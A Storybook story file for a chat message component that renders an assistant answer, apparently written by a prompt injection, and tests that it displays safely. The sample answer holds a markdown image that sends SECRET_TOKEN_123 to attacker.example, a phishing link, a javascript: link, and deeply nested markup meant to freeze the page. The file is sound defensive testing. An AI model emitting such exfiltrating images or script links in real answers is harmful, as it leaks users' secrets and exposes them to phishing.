import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, userEvent, within } from 'storybook/test';
import { StreamingMessageBubble } from '../../src/components/StreamingMessageBubble.js';
import type { ChatMessageInput } from '../../src/core/messages.js';

/** An answer written by a prompt injection: it tries to leak a secret, crash the page and freeze it. */
const hostile = [
  'Here is your report. ![status](https://attacker.example/p.png?d=SECRET_TOKEN_123)',
  '',
  'Read the [official documentation](https://attacker.example/phish) or [run this](javascript:alert(1)).',
  '',
  '>'.repeat(2_000) + ' deep',
  '',
  '*a'.repeat(3_000),
  '',
  'The rest of the answer renders as usual: **bold**, `code` and a list.',
  '',
  '- one',
  '- two',
].join('\n');

const message: ChatMessageInput = { id: 'h', role: 'assistant', content: hostile, status: 'complete', createdAt: 0 };

/**
 * A hostile answer rendered calmly: the tracking image is a chip that loads nothing until asked, links show where
 * they go (and a script link is no link), 2,000 nested quotes and a 6,000-marker run show as the text they are, and
 * the markdown around them renders as usual.
 */
const meta = {
  title: 'Security/Hostile answer',
  component: StreamingMessageBubble,
  args: { message },
  // The hostile text is the point, not a control: as an object control its 10,000 characters stretched the docs page
  // to 42,000 px wide.
  argTypes: { message: { control: false } },
  decorators: [
    (Story) => (
      <div style={{ maxWidth: 760, margin: '0 auto' }}>
        <Story />
      </div>
    ),
  ],
} satisfies Meta<typeof StreamingMessageBubble>;

export default meta;
type Story = StoryObj<typeof meta>;

export const RendersCalmly: Story = {
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvasElement.querySelector('img')).toBeNull();
    const chip = canvas.getByRole('button', { name: 'Show image: status attacker.example' });
    await expect(canvas.getByRole('link', { name: 'official documentation (attacker.example)' })).toHaveAttribute(
      'href',
      'https://attacker.example/phish',
    );
    await expect(canvas.queryByRole('link', { name: /run this/ })).toBeNull();
    await expect(canvasElement.querySelector('blockquote')).toBeNull();
    await expect(canvas.getByText('one')).toBeVisible();
    // Focus on a link shows its real host.
    canvas.getByRole('link', { name: /official documentation/ }).focus();
    await userEvent.tab({ shift: true });
    await userEvent.tab();
    await expect(chip).toBeVisible();
  },
};

export const Streaming: Story = {
  args: { isStreaming: true },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('img')).toBeNull();
    await expect(canvasElement.querySelector('[data-slot="blocked-image"]')).not.toBeNull();
  },
};
